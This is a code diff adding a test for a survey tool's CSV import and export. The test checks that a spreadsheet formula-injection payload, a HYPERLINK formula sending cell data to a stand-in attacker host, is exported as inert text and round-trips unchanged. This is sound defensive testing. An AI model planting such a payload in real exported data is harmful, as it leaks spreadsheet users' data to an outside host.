@@ -189,3 +189,25 @@ test('waves create prints the key on its last line and refuses a missing name', 
   const unknown = cli(['--questionnaire', 'no-such', '--name', 'X']);
   await assert.rejects(runCreateWave(unknown.context), /questionnaire_not_found/);
 });
+
+test('free text that a spreadsheet would run as a formula is exported as text, and imports back unchanged', async () => {
+  const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
+  const lines = shippedCsv.trimEnd().split('\n');
+  const header = lines[0]!.split(',');
+  const textColumn = header.indexOf('documents_provided_what');
+  const fields = parse(lines[1]!)[0] as string[];
+  fields[textColumn] = formula;
+  lines[1] = fields.map((field) => (/[",\n]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field)).join(',');
+  const key = await newWave('Formula');
+  const wave = await getWaveByKey(database.db, key);
+  await database.db.transaction().execute((trx) => importResponses(trx, wave, `${lines.join('\n')}\n`));
+
+  const exported = await exportResponsesToString(database.db, wave);
+  const rows = parse(exported) as string[][];
+  const row = rows.find((cells) => cells[0] === fields[0])!;
+  assert.equal(row[textColumn], `'${formula}`);
+
+  const again = await getWaveByKey(database.db, await newWave('Formula again'));
+  await database.db.transaction().execute((trx) => importResponses(trx, again, exported));
+  assert.equal(await exportResponsesToString(database.db, again), exported);
+});
